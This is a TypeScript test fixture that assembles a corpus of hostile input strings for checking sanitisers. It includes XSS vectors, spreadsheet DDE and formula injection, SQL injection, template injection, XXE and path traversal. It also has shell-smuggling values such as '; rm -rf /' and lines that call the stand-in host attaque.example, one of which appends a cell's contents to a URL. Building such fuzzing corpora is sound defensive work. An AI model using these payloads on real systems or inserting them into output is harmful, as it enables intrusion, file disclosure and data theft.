// Texts that try to be something else: at least four hundred, made of a few ideas each with its variants,
// so that whoever adds one idea adds its variants everywhere it matters. The mark `__pwned` is what a
// script that runs would set.

const run = 'window.__pwned=1';

const scripts = [
	`<script>${run}</script>`,
	`<ScRiPt>${run}</sCrIpT>`,
	`<script src="//attaque.example/x.js"></script>`,
	`<script/x>${run}</script >`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`</script><script>${run}</script>`,
	`</style><script>${run}</script>`,
	`</textarea><script>${run}</script>`,
	`</title><script>${run}</script>`,
	`--><script>${run}</script><!--`,
	`]]><script>${run}</script>`,
	`<!--<script>${run}</script>-->`,
	`<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
	`<noscript><p title="</noscript><script>${run}</script>">`,
	`<template><script>${run}</script></template>`,
	`<xmp><script>${run}</script></xmp>`,
	`＜script＞${run}＜/script＞`,
	`\u003cscript\u003e${run}\u003c/script\u003e`,
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`%3Cscript%3E${run}%3C/script%3E`,
	`\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`
];

const elements = [
	'<base href="//attaque.example/">',
	'<meta http-equiv="refresh" content="0;url=//attaque.example">',
	'<link rel="stylesheet" href="//attaque.example/x.css">',
	'<iframe src="//attaque.example"></iframe>',
	`<iframe srcdoc="<script>parent.__pwned=1</script>">`,
	'<object data="//attaque.example/x.svg"></object>',
	'<embed src="//attaque.example/x.swf">',
	'<form action="//attaque.example"><button>Envoyer</button></form>',
	'<style>*{display:none!important}</style>',
	'<style>@import "//attaque.example/x.css";</style>',
	'<div style="position:fixed;inset:0;background:url(//attaque.example/p)">',
	'<img src="//attaque.example/p.png">',
	'<video><source src="//attaque.example/v.mp4"></video>',
	'<marquee>défile</marquee>',
	'<dialog open>dialogue</dialog>',
	'<h1>grand titre</h1>',
	'</div></main></body></html>',
	'</li></ul></section>',
	'<table><tr><td>',
	'<a href="//attaque.example" target="_blank">ici</a>',
	'<input autofocus name="key">',
	'<details open><summary>x</summary></details>',
	'<plaintext>',
	'<frameset><frame src="//attaque.example"></frameset>',
	'<portal src="//attaque.example"></portal>'
];

const handlers = ['onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];
const carriers = [
	(handler: string) => `<img src=x ${handler}=${run}>`,
	(handler: string) => `"><svg ${handler}="${run}">`,
	(handler: string) => `' ${handler}='${run}' x='`,
	(handler: string) => `" ${handler}="${run}" autofocus x="`,
	(handler: string) => `<body ${handler}=${run}>`,
	(handler: string) => `<details open ${handler}=${run}>`
];

const drawings = [
	`<svg><script>${run}</script></svg>`,
	`<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:${run}"/>`,
	`<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`,
	'<svg><use href="data:image/svg+xml,&lt;svg/&gt;#x"/></svg>',
	`<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
	`<math href="javascript:${run}">x</math>`,
	`<math><maction actiontype="statusline#${run}">x</maction></math>`,
	`<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
	'<image href="//attaque.example/x">',
	'<circle r="9999" fill="red"/>'
];

const addresses = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	`java\tscript:${run}`,
	`java\nscript:${run}`,
	`\u0001javascript:${run}`,
	`javascript&colon;${run}`,
	`javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
	`data:text/html,<script>${run}</script>`,
	'data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
	`vbscript:msgbox(1)`,
	'file:///etc/passwd',
	'blob:https://attaque.example/1',
	'//attaque.example',
	'\\\\attaque.example\\partage',
	'https://attaque.example/?q=<script>',
	'http://[::1]/',
	'mailto:x@attaque.example?subject=a%0d%0aBcc:y',
	'tel:+33600000000',
	'intent://x#Intent;scheme=http;end',
	'https://аpple.com',
	'https://xn--80ak6aa92e.com'
];

const templates = [
	'{{7*7}}',
	'{{constructor.constructor("window.__pwned=1")()}}',
	'${7*7}',
	`\${${run}}`,
	'#{7*7}',
	'<%= 7*7 %>',
	'{%raw%}{{x}}{%endraw%}',
	'{@html "<b>x</b>"}',
	`{@html '<img src=x onerror=${run}>'}`,
	'{#if true}oui{/if}',
	'{count}',
	'{max}',
	'{name, plural, one {#} other {#}}',
	'%s %d %n %x',
	'%1$s%2$s',
	'%00',
	'%0d%0aSet-Cookie:a=b',
	'$&',
	'$1$2',
	"$'$`$$",
	'\\1\\2',
	'[[${7*7}]]',
	'@(1+1)',
	'*{7*7}',
	'~{fragment}',
	'__${T(java.lang.Runtime)}__::.x',
	'`code ${1}`'
];

const commands = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(A1:A9)',
	'=CMD("calc")',
	"=cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'=HYPERLINK("http://attaque.example?x="&A1;"cliquez")',
	'=IMPORTXML("http://attaque.example","//a")',
	'=WEBSERVICE("http://attaque.example")',
	'=DDE("cmd";"/C calc";"x")',
	'=1+1";=2+2',
	'a;=1+1',
	'a,=1+1',
	'a\t=1+1',
	'a";"=1+1',
	'"=1+1"',
	"'=1+1"
];
const openings = ['\t', '\r', '\n', '\r\n', ' ', '\u00A0', '\u202F', '\u200B', '\uFEFF', '\u0000', '"', "'", '\u202E', '\u00AD'];
const formulas = [
	...commands,
	...openings.flatMap((opening) => ['=', '+', '-', '@'].map((sign) => `${opening}${sign}1+1`)),
	...['＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'].map((sign) => `${sign}1+1`),
	'{=1+1}',
	'=',
	'-',
	'@',
	'-----',
	'==titre==',
	'1/2',
	'1-2',
	'3E5',
	'00123',
	'12:30',
	'0x1F',
	'TRUE',
	'#REF!',
	'sep=;',
	'ID;x',
	'PK\u0003\u0004'
];

const markdown = [
	`[lien](javascript:${run})`,
	`![image](x" onerror="${run})`,
	'![pixel](https://attaque.example/p.png)',
	`[a]: javascript:${run}`,
	'[a][a]',
	`<javascript:${run}>`,
	'<https://attaque.example>',
	'https://attaque.example',
	'www.attaque.example',
	'moi@attaque.example',
	'# titre',
	'## titre ##',
	'titre\n=====',
	'titre\n-----',
	'> citation',
	'- puce',
	'* puce',
	'+ puce',
	'1. un',
	'1) un',
	'- [ ] tâche',
	'***',
	'---',
	'___',
	'**gras** __gras__ *i* _i_ ~~barré~~',
	'`code` ``co`de``',
	'```\ncode\n```',
	'~~~js\ncode\n~~~',
	'    code',
	'| a | b |\n|---|---|\n| 1 | 2 |',
	'a|b\\|c',
	'|',
	'\\',
	'\\\\|',
	'a  \nb',
	'<b>gras</b>',
	'&copy; &#x27; &nbsp;',
	'[^1]: note',
	'$$x^2$$',
	':smile:',
	'==surligné==',
	'<details><summary>x</summary>',
	'\n\n# titre',
	'a\n\n- b'
];

const xml = [
	'&amp;&#0;',
	'&lt;&gt;&quot;&apos;',
	'&nbsp;&unknown;',
	'&#xD800;&#xFFFE;',
	'&#60;script&#62;',
	'<![CDATA[ x ]]>',
	']]>',
	'<?xml version="1.0"?>',
	'<?php echo 1 ?>',
	'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
	'<!ENTITY a "b">',
	'<!--',
	'-->',
	'--!>',
	'<w:p><w:r><w:t>x</w:t></w:r></w:p>',
	'</w:t></w:r></w:p>',
	'<w:instrText>INCLUDETEXT "file"</w:instrText>',
	'{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
	'text:p/></office:text>',
	'<text:script>x</text:script>',
	'<xi:include href="file:///etc/passwd"/>',
	'xml:space="preserve"',
	'_x0000_ _x003C_',
	'<a b="c"',
	'a<b && c>d',
	'<>',
	'< script >',
	'&',
	'&&',
	'"\'`'
];

const controls = [...Array.from({ length: 32 }, (_, at) => at), 127, 133, 159].map(
	(code) => `un${String.fromCharCode(code)}deux`
);

const invisibles = [
	...['\u00AD', '\u034F', '\u061C', '\u115F', '\u1160', '\u17B4', '\u180E', '\u200B', '\u200C', '\u200D'],
	...['\u200E', '\u200F', '\u2028', '\u2029', '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2060'],
	...['\u2061', '\u2066', '\u2067', '\u2068', '\u2069', '\u206A', '\u206F', '\u3164', '\uFEFF', '\uFFA0'],
	...['\uFFF9', '\uFFFA', '\uFFFB', '\uFFFC', '\uFFFD', '\uFE0F', '\uFE00', '\u2800', '\u{E0001}', '\u{E0041}'],
	...['\u{E0100}', '\u{1D173}', '\uE000', '\uF8FF', '\u{F0000}', '\u{10FFFD}', '\uD800', '\uDFFF', '\uFDD0', '\uFFFE'],
	...['\uFFFF', '\u{1FFFE}']
].flatMap((sign) => [`mot${sign}suite`, sign.repeat(3)]);

const spaces = ['\u00A0', '\u1680', '\u2003', '\u2009', '\u202F', '\u205F', '\u3000'].flatMap((space) => [
	`deux${space}mots`,
	`${space}${space}bords${space}`,
	`Vraiment${space}?`
]);

const marks = ['\u0300', '\u0323', '\u0336', '\u0489', '\u20DD', '\u20E3', '\u0E49', '\u0F71'];
const stacked = [
	...marks.map((mark) => `Z${mark.repeat(60)}algo`),
	...marks.map((mark) => `${mark.repeat(5)}au début`),
	`H${'\u030D\u030E\u0304\u0305\u033F\u0311\u0306'.repeat(9)}E`,
	`e${'\u0301\u034F'.repeat(30)}`,
	'ﷺ ﷽ 𒐫 𒈙 ꧅',
	'﷽'.repeat(12),
	'𒐫'.repeat(20)
];

const pictures = [
	'👩‍👩‍👧‍👦',
	'👩🏽‍❤️‍💋‍👨🏻',
	'🏳️‍🌈🏴‍☠️',
	'🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
	'🏴\u{E0041}\u{E0041}',
	'🇫🇷🇪🇺🇫',
	'1️⃣#️⃣',
	'😀'.repeat(60),
	Array.from('😀'.repeat(60)).join('\u200D'),
	`👍${'🏽'.repeat(50)}`,
	'❤︎ ❤️',
	'©️™️',
	'\u1100'.repeat(80),
	'각각각'.normalize('NFD')
];

const otherWay = [
	'مرحبا بالجميع',
	'שלום לכולם',
	'مرحبا (3) = نعم?',
	'français مرحبا français',
	'\u202Eexe.tnemucod',
	'document\u202Efdp.exe',
	'\u2067\u2067\u2067sans fin',
	'a\u2069\u2069b',
	'\u200Fabc!',
	'می‌خواهم',
	'क्ष क्‍ष',
	'עברית 123 abc',
	'ภาษาไทยที่ไม่มีช่องว่างเลยและยาวมาก',
	'日本語の文章は空白なしで続きます。とても長い文でも大丈夫です。',
	'中文没有空格也可以很长很长很长很长很长很长很长',
	'ᠮᠣᠩᠭᠣᠯ',
	'Ꙗко',
	'ǅ ß ŉ İ ı ſ'
];

const alike = [
	'сonfiance',
	'сᴏпfіаnсе',
	'ⓒⓞⓝⓕⓘⓐⓝⓒⓔ',
	'𝐜𝐨𝐧𝐟𝐢𝐚𝐧𝐜𝐞',
	'ｃｏｎｆｉａｎｃｅ',
	'cοnfiance',
	'ℂ𝕠𝕟𝕗𝕚𝕒𝕟𝕔𝕖',
	'ᶜᵒⁿᶠⁱᵃⁿᶜᵉ',
	'conﬁance',
	'ǝɔuɐıɟuoɔ',
	'c0nf14nc3',
	'I l | 1'
];

const names = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'valueOf',
	'hasOwnProperty',
	'__defineGetter__',
	'constructor.prototype',
	'{"__proto__":{"x":1}}',
	'null',
	'undefined',
	'NaN',
	'Infinity',
	'true',
	'[object Object]',
	'0',
	'-0',
	'{}',
	'[]',
	'this',
	'then',
	'length',
	'name',
	'children',
	'group:constructor',
	'=__proto__'
];

const paths = [
	'../../etc/passwd',
	'..\\..\\windows\\win.ini',
	'/etc/passwd',
	'C:\\Windows\\System32',
	'rapport.docx/../../x',
	'CON',
	'NUL.txt',
	'aux',
	'LPT1',
	'.',
	'..',
	'.htaccess',
	'~/.ssh/id_rsa',
	'$(reboot)',
	'`reboot`',
	'; rm -rf /',
	'| cat /etc/passwd',
	'&& shutdown',
	'nom: avec * des ? signes <interdits> "partout"',
	'tableau.csv\u0000.exe',
	'--help',
	'-rf',
	'a/b/c',
	'fin.',
	' fin '
];

const consoles = [
	'\u001B[31mrouge\u001B[0m',
	'\u001B]0;titre\u0007',
	'\u001B[2J\u001B[H',
	'\u009B31m',
	'\b\b\bmot',
	'un\rdeux',
	'\u0007\u0007'
];

const queries = [
	"' OR '1'='1",
	"'; DROP TABLE journal; --",
	'" OR ""="',
	"Robert'); DROP TABLE people;--",
	'1; SELECT pg_sleep(10)',
	"' UNION SELECT * FROM keys --",
	'/* commentaire */',
	'-- fin',
	"x' AND 1=(SELECT COUNT(*) FROM journal); --",
	'{"$gt": ""}',
	'*)(uid=*))(|(uid=*',
	'\\u0027 OR 1=1'
];

const escapes = ['\\', '\\n\\t', '\\u0000', '\\x00', '"', '""', "'", '`', '\n', '\r\n', '\t', ' ', '', '\n\r\n\t'];

const long = [
	'a'.repeat(40),
	'a'.repeat(240),
	'a'.repeat(300),
	'mot'.repeat(80),
	'anticonstitutionnellement'.repeat(9),
	'W'.repeat(40),
	'W'.repeat(240),
	'i'.repeat(240),
	'_'.repeat(240),
	'-'.repeat(240),
	'.'.repeat(240),
	'😀'.repeat(240),
	'中'.repeat(240),
	'مرحبا'.repeat(48),
	`https://exemple.fr/${'chemin/'.repeat(30)}`,
	`${'a '.repeat(120)}`,
	`${'mot long '.repeat(26)}`,
	'\u00A0a'.repeat(100),
	'A\u2011B'.repeat(80),
	'x\u0336'.repeat(200),
	'(('.repeat(100),
	'<'.repeat(240),
	'&'.repeat(240),
	'"'.repeat(240),
	'='.repeat(240)
];

/** Every one of them, each once. */
export const corpus: readonly string[] = [
	...new Set([
		...scripts,
		...elements,
		...handlers.flatMap((handler) => carriers.map((carry) => carry(handler))),
		...drawings,
		...addresses,
		...templates,
		...formulas,
		...markdown,
		...xml,
		...controls,
		...invisibles,
		...spaces,
		...stacked,
		...pictures,
		...otherWay,
		...alike,
		...names,
		...paths,
		...consoles,
		...queries,
		...escapes,
		...long
	])
];

/** One text far longer than anything that may be kept. */
export const enormous = 'très long '.repeat(10_000);
